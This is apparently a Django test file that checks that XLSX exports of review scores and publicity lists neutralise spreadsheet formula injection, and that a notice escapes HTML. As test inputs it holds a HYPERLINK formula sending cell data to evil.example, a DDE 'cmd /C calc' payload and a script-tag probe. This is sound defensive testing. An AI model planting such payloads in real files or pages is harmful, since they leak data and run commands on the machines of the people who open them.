"""Downloads: formula injection is neutralised in every XLSX; the notice PDF escapes user text."""

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from reviews.exports import publicity_notice_html
from reviews.models import Assignment, Publicity, PublicityEntry
from reviews.services.scoring import score_save
from tests.factories.reviews import panel_with, points_for
from tests.helpers import xlsx_cells

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_score_sheet_writes_formula_like_text_as_text(opened, client_for, city):
    panel, members, apps = panel_with(experts=2, applications=1)
    type(apps[0].enterprise).objects.filter(pk=apps[0].enterprise_id).update(name=EVIL)
    panel = opened(panel, per_application=2)
    assignment = Assignment.objects.filter(panel=panel).select_related("expert__user").first()
    score_save(actor=assignment.expert.user, assignment=assignment, points=points_for(panel, Decimal("0.5")),
               comment="+cmd|' /C calc'!A0", submit=True)
    response = client_for(city).get(reverse("reviews:panel_scores_xlsx", args=[panel.pk]))
    values = [c for c in xlsx_cells(response, filled=True) if isinstance(c.value, str)]
    texts = {c.value for c in values}
    assert "'" + EVIL in texts and "'+cmd|' /C calc'!A0" in texts
    assert all(c.data_type == "s" for c in values)
    sheet = client_for(city).get(reverse("reviews:panel_scores_xlsx", args=[panel.pk]))
    numbers = [c.value for c in xlsx_cells(sheet, filled=True)
               if isinstance(c.value, int | float)]
    assert 50 in numbers or 50.0 in numbers  # the total stays a number


def test_publicity_list_and_notice_escape_user_text(client_for, city):
    from tests.factories.applications import RoundFactory, application_in

    app = application_in("in_publicity")
    day = datetime.date(2021, 11, 1)
    publicity = Publicity.objects.create(round=RoundFactory(), title="公示", starts_on=day, working_days=5,
                                         ends_on=datetime.date(2021, 11, 8), status="published",
                                         notice="<script>alert(1)</script>")
    PublicityEntry.objects.create(publicity=publicity, application=app, number=1, enterprise_name="@SUM(1+1)*cmd",
                                  project_name="-2+3", category_name="c", county_name="中原区",
                                  amount=Decimal("1234567.89"))
    response = client_for(city).get(reverse("reviews:publicity_xlsx", args=[publicity.pk]))
    texts = {c.value for c in xlsx_cells(response, filled=True) if isinstance(c.value, str)}
    assert "'@SUM(1+1)*cmd" in texts and "'-2+3" in texts
    listing = client_for(city).get(reverse("reviews:publicity_xlsx", args=[publicity.pk]))
    assert 123.46 in {c.value for c in xlsx_cells(listing, filled=True)}
    html = publicity_notice_html(publicity)
    assert "<script>" not in html and "&lt;script&gt;" in html
